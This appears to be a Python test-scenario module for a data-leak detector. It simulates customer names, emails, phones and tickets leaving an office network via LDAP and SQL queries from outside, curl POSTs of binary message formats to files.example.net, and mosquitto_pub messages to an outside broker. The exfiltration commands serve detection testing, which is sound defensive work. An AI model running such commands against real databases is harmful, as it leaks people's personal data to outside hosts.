"""Scenarios: databases, directories and messages. Values stand between tags and lengths, not between blanks."""

import messages
import servers
from content import customers, customers_file
from registry import Facts, scenario
from scenarios_web import CURL

COLUMNS = ("name", "email", "phone", "ticket")
FROM_OFFICE = {"source": "10.20.0.80", "destination": "203.0.113.9"}
# An index finds all of it. Signatures find less: without one, letters that are lengths are letters of a value.
SOME = {"exact": False, "values": {"email": 1, "ticket": 0, "phone": 0}, "named": True}


def each_column_last():
    """The columns in every rotation: what follows the last one of a row differs from what follows the others."""
    return [COLUMNS[at:] + COLUMNS[:at] for at in range(len(COLUMNS))]


@scenario("ldap")
def ldap(net, record):
    """Somebody outside searches the directory of the office (slapd): in BER the tag of what follows a value is a digit."""
    rows = customers(60, 521)
    servers.directory(net, net.office, "10.20.0.80", rows)
    record()
    net.do(net.outside, "ldapsearch", "-x", "-LLL", "-H", "ldap://10.20.0.80", "-b", "dc=example,dc=net", "(objectClass=person)",
           "cn", "mail", "telephoneNumber", "employeeNumber")
    return Facts().leak(rows, [], app_proto=None, port=None, direction="outbound", within="flow", **FROM_OFFICE, **SOME)


@scenario("postgresql")
def postgresql(net, record):
    """psql outside reads a table of the office's PostgreSQL, four times with another column last: after the last one the next
    message begins with a letter."""
    rows = customers(70, 531)
    table = net.write("customers.csv", customers_file(70, 531))
    database = servers.postgresql(net, net.office, "10.20.0.80")
    database(f"CREATE TABLE customers (name text, email text, ticket text, phone text); "
             f"COPY customers FROM '{table}' WITH (FORMAT csv, HEADER);")
    record()
    facts = Facts()
    for number, columns in enumerate(each_column_last()):
        net.do(net.outside, "psql", "-q", "-At", "host=10.20.0.80 user=postgres dbname=postgres sslmode=disable gssencmode=disable",
               "-c", f"SELECT {', '.join(columns)} FROM customers ORDER BY ticket")
        facts.leak(rows, [], app_proto=None, port=None, within="flow", **FROM_OFFICE, **SOME)
    return facts


@scenario("mariadb")
def mariadb(net, record):
    """The mariadb client outside reads a table of the office, four times with another column last: lengths between the columns
    are letters and digits where a column is long."""
    rows = customers(80, 541)
    table = net.write("customers.csv", customers_file(80, 541))
    database = servers.mariadb(net, net.office, "10.20.0.80")
    database("CREATE DATABASE crm; CREATE TABLE crm.customers (name text, email text, ticket text, phone text) "
             "CHARACTER SET utf8mb4; "
             f"LOAD DATA INFILE '{table}' INTO TABLE crm.customers CHARACTER SET utf8mb4 FIELDS TERMINATED BY ',' "
             "OPTIONALLY ENCLOSED BY '\"' LINES TERMINATED BY '\\r\\n' IGNORE 1 LINES; "
             "CREATE USER reader@'203.0.113.%'; GRANT SELECT ON crm.* TO reader@'203.0.113.%';")
    record()
    facts = Facts()
    for columns in each_column_last():
        net.do(net.outside, "mariadb", "--no-defaults", "--skip-ssl", "-h", "10.20.0.80", "-u", "reader", "--default-character-set=utf8mb4",
               "-e", f"SELECT {', '.join(columns)} FROM crm.customers")
        facts.leak(rows, [], app_proto=None, port=None, within="flow", **FROM_OFFICE, **SOME)
    return facts


@scenario("message-formats")
def message_formats(net, record):
    """Customers in the message formats of programs, by HTTP: CBOR, MessagePack, protobuf, Avro records and Thrift, each with
    fields in four orders."""
    servers.web(net, net.outside, "203.0.113.9:80")
    record()
    facts = Facts()
    for number, (name, write) in enumerate(messages.FORMATS.items()):
        rows = customers(40, 551 + number)
        orders = each_column_last()
        body = b"".join(write(rows[at::len(orders)], columns) for at, columns in enumerate(orders))
        path = net.write(f"{name}.bin", body)
        net.office_do(*CURL, "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{path}",
                      f"http://files.example.net/api/{name}")
        facts.leak(rows, [f"POST /api/{name}"], **SOME)
    return facts


@scenario("mqtt")
def mqtt(net, record):
    """mosquitto_pub sends customers to a broker outside, each as a CBOR map in a message of its own."""
    rows = customers(30, 571)
    servers.broker(net, net.outside, "203.0.113.9")
    record()
    for number, row in enumerate(rows):
        path = net.write(f"message-{number}", messages.FORMATS["cbor"]([row], COLUMNS))
        net.office_do("mosquitto_pub", "-h", "203.0.113.9", "-i", f"desk{number}", "-t", "crm/customer", "-f", path)
    return Facts().leak(rows, [], app_proto=None, port=1883, within="host", **SOME)
